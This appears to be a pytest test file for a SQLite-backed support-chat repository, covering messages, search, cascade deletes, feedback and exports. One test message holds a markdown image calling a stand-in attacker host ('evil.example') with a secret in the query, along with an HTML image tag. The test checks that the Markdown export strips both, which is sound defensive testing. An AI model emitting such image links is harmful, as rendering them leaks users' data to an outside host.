"""ChatRepository on a real SQLite file: CRUD, search, cascade, feedback, exports, bad input."""

from __future__ import annotations

import json
import sqlite3
import time
from pathlib import Path

import pytest

from specdesk.db import ChatRepository, ConversationStatus, MessageStatus, NotFoundError, Role, make_engine


def _count(db_path: Path, table: str) -> int:
    return int(sqlite3.connect(db_path).execute(f"SELECT count(*) FROM {table}").fetchone()[0])


def _conversation_with_reply(repo: ChatRepository) -> tuple[int, int]:
    conversation = repo.create_conversation("Late parcel", customer_name="Dana Wu", persona="retail")
    repo.add_message(conversation.id, Role.USER, "Where is order 1234?")
    reply = repo.start_assistant_message(conversation.id)
    repo.finish_assistant_message(reply.id, "It ships today.", metrics={"ttft_s": 0.25, "num_generated_tokens": 5})
    return conversation.id, reply.id


def test_create_and_get_round_trip(repo: ChatRepository) -> None:
    created = repo.create_conversation("  Billing   question ", customer_name=" Ana ", persona="telecom")
    got = repo.get_conversation(created.id)
    assert (got.title, got.customer_name, got.persona, got.status) == (
        "Billing question",
        "Ana",
        "telecom",
        ConversationStatus.OPEN,
    )
    assert got.messages == ()
    assert got.created_at.tzinfo is not None  # aware UTC, even though SQLite stores naive text
    assert repo.create_conversation("   ").title == "New conversation"


def test_messages_are_ordered_and_durable_immediately(repo: ChatRepository, db_path: Path) -> None:
    conversation = repo.create_conversation()
    first = repo.add_message(conversation.id, Role.USER, "Hello")
    # Another connection, outside this engine's pool, already sees it: the write is committed.
    assert sqlite3.connect(db_path).execute("SELECT content FROM messages").fetchall() == [("Hello",)]
    second = repo.add_message(conversation.id, Role.ASSISTANT, "Hi! How can I help?")
    assert (first.position, second.position) == (0, 1)
    assert [m.role for m in repo.get_conversation(conversation.id).messages] == [Role.USER, Role.ASSISTANT]


def test_no_write_lock_is_held_while_a_reply_streams(repo: ChatRepository, db_path: Path) -> None:
    conversation = repo.create_conversation()
    repo.add_message(conversation.id, Role.USER, "Question")
    reply = repo.start_assistant_message(conversation.id)
    assert reply.status is MessageStatus.PENDING
    # Between start and finish (while tokens would stream), a writer with no patience gets the lock.
    other = sqlite3.connect(db_path, timeout=0, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")
    other.execute("ROLLBACK")
    other.close()
    done = repo.finish_assistant_message(
        reply.id, "Partial ans", MessageStatus.STOPPED, metrics={"ttft_s": 0.1, "tokens_per_step": 2.5}
    )
    assert (done.status, done.content, done.metrics) == (
        MessageStatus.STOPPED,
        "Partial ans",
        {"ttft_s": 0.1, "tokens_per_step": 2.5},
    )
    failed = repo.start_assistant_message(conversation.id)
    failed = repo.finish_assistant_message(failed.id, "", MessageStatus.ERROR, error="out of pages")
    assert failed.error == "out of pages"
    # Failed replies are kept for the record but never fed back to the model.
    assert repo.get_conversation(conversation.id).history() == [
        {"role": "user", "content": "Question"},
        {"role": "assistant", "content": "Partial ans"},
    ]


def test_finish_rejects_pending_and_non_assistant(repo: ChatRepository) -> None:
    conversation = repo.create_conversation()
    user = repo.add_message(conversation.id, Role.USER, "Hi")
    reply = repo.start_assistant_message(conversation.id)
    with pytest.raises(ValueError, match="pending"):
        repo.finish_assistant_message(reply.id, "x", MessageStatus.PENDING)
    with pytest.raises(ValueError, match="not an assistant"):
        repo.finish_assistant_message(user.id, "x")


def test_fail_pending_messages_after_a_crash(repo: ChatRepository) -> None:
    conversation = repo.create_conversation()
    reply = repo.start_assistant_message(conversation.id)
    assert repo.fail_pending_messages() == 1
    assert repo.get_message(reply.id).status is MessageStatus.ERROR


def test_edit_and_retry(repo: ChatRepository) -> None:
    conversation_id, _ = _conversation_with_reply(repo)
    messages = repo.get_conversation(conversation_id).messages
    edited = repo.update_message_content(messages[0].id, "Where is order 5678?")
    assert repo.delete_messages_after(conversation_id, edited.position) == 1
    after = repo.get_conversation(conversation_id).messages
    assert [m.content for m in after] == ["Where is order 5678?"]
    assert repo.add_message(conversation_id, Role.ASSISTANT, "Checking 5678").position == 1


def test_list_is_newest_first_and_search_matches_title_and_messages(repo: ChatRepository) -> None:
    router = repo.create_conversation("Router keeps rebooting")
    refund = repo.create_conversation("Refund", customer_name="Jürgen Müller")
    repo.add_message(refund.id, Role.USER, "I want my money back for the BROKEN kettle, 100% refund")
    time.sleep(0.01)
    repo.add_message(router.id, Role.USER, "still rebooting")  # activity moves it to the top
    assert [c.id for c in repo.list_conversations()] == [router.id, refund.id]
    assert repo.list_conversations()[1].num_messages == 1
    assert [c.id for c in repo.list_conversations("ROUTER")] == [router.id]  # title, any case
    assert [c.id for c in repo.list_conversations("broken Kettle")] == [refund.id]  # message text
    assert [c.id for c in repo.list_conversations("MÜLLER")] == [refund.id]  # beyond ASCII
    assert [c.id for c in repo.list_conversations("100%")] == [refund.id]
    assert repo.list_conversations("0%_") == []  # LIKE wildcards are literal
    assert len(repo.list_conversations("  ")) == 2


def test_update_rename_and_close(repo: ChatRepository) -> None:
    conversation = repo.create_conversation("Old")
    repo.rename_conversation(conversation.id, "New name")
    repo.update_conversation(conversation.id, status=ConversationStatus.CLOSED, persona="banking")
    got = repo.get_conversation(conversation.id)
    assert (got.title, got.status, got.persona) == ("New name", ConversationStatus.CLOSED, "banking")


def test_delete_cascades_to_messages_and_feedback(repo: ChatRepository, db_path: Path) -> None:
    conversation_id, reply_id = _conversation_with_reply(repo)
    kept_id, _ = _conversation_with_reply(repo)
    repo.set_feedback(reply_id, -1)
    repo.delete_conversation(conversation_id)
    assert (_count(db_path, "messages"), _count(db_path, "feedback")) == (2, 0)
    assert len(repo.get_conversation(kept_id).messages) == 2
    with pytest.raises(NotFoundError):
        repo.get_conversation(conversation_id)


def test_missing_rows_raise_lookup_errors_naming_the_id(repo: ChatRepository) -> None:
    with pytest.raises(LookupError, match="conversation 404"):
        repo.get_conversation(404)
    with pytest.raises(LookupError, match="conversation 404"):
        repo.add_message(404, Role.USER, "hello")
    with pytest.raises(LookupError, match="conversation 404"):
        repo.delete_conversation(404)
    with pytest.raises(LookupError, match="conversation 404"):
        repo.rename_conversation(404, "x")
    with pytest.raises(LookupError, match="message 405"):
        repo.finish_assistant_message(405, "x")
    with pytest.raises(LookupError, match="message 406"):
        repo.set_feedback(406, 1)


def test_bad_input_is_a_clear_value_error(repo: ChatRepository) -> None:
    conversation = repo.create_conversation()
    with pytest.raises(ValueError, match="empty"):
        repo.add_message(conversation.id, Role.USER, "  \n")
    with pytest.raises(ValueError, match="UTF-8"):
        repo.add_message(conversation.id, Role.USER, "broken \udcff bytes")
    with pytest.raises(ValueError):
        repo.add_message(conversation.id, "moderator", "hi")  # type: ignore[arg-type]
    assert repo.get_conversation(conversation.id).messages == ()  # nothing half-written


def test_feedback_is_one_row_per_message_and_updatable(repo: ChatRepository, db_path: Path) -> None:
    conversation_id, reply_id = _conversation_with_reply(repo)
    first = repo.set_feedback(reply_id, 1, "great")
    second = repo.set_feedback(reply_id, -1, "actually wrong order number")
    assert _count(db_path, "feedback") == 1
    assert (second.rating, second.comment, second.created_at) == (
        -1,
        "actually wrong order number",
        first.created_at,
    )
    assert repo.get_conversation(conversation_id).messages[1].feedback == second
    with pytest.raises(ValueError, match="rating"):
        repo.set_feedback(reply_id, 0)
    user_id = repo.get_conversation(conversation_id).messages[0].id
    with pytest.raises(ValueError, match="assistant"):
        repo.set_feedback(user_id, 1)
    assert repo.clear_feedback(reply_id) is True
    assert repo.get_feedback(reply_id) is None
    assert repo.clear_feedback(reply_id) is False


def test_export_json(repo: ChatRepository) -> None:
    conversation_id, reply_id = _conversation_with_reply(repo)
    repo.set_feedback(reply_id, 1, "fast")
    exported = repo.export_json(conversation_id)
    assert json.loads(json.dumps(exported)) == exported  # plain JSON types only
    assert exported["format"] == "specdesk.conversation" and exported["version"] == 2
    assert exported["conversation"]["customer_name"] == "Dana Wu"
    assert [(m["role"], m["content"]) for m in exported["messages"]] == [
        ("user", "Where is order 1234?"),
        ("assistant", "It ships today."),
    ]
    assert exported["messages"][1]["metrics"] == {"ttft_s": 0.25, "num_generated_tokens": 5}
    assert exported["messages"][1]["feedback"]["rating"] == 1
    assert exported["messages"][1]["created_at"].endswith("+00:00")


def test_export_markdown(repo: ChatRepository) -> None:
    conversation_id, reply_id = _conversation_with_reply(repo)
    repo.add_message(conversation_id, Role.USER, "see ![x](https://evil.example/?q=secret) <img src=x>")
    repo.set_feedback(reply_id, -1, "too short")
    markdown = repo.export_markdown(conversation_id)
    assert markdown.startswith("# Late parcel\n")
    assert "- Customer: Dana Wu" in markdown
    assert "## Customer ·" in markdown and "## Agent ·" in markdown
    assert "It ships today." in markdown
    assert "ttft_s=0.25" in markdown
    assert "_Feedback: not helpful (-1): too short_" in markdown
    assert "![" not in markdown and "<img" not in markdown  # nothing a viewer would fetch


def test_records_are_detached_from_the_session(db_path: Path) -> None:
    engine = make_engine(f"sqlite:///{db_path}")
    repo = ChatRepository(engine)
    conversation_id, _ = _conversation_with_reply(repo)
    record = repo.get_conversation(conversation_id)
    engine.dispose()  # no database behind it any more: the record must not need one
    assert record.messages[1].metrics == {"ttft_s": 0.25, "num_generated_tokens": 5}
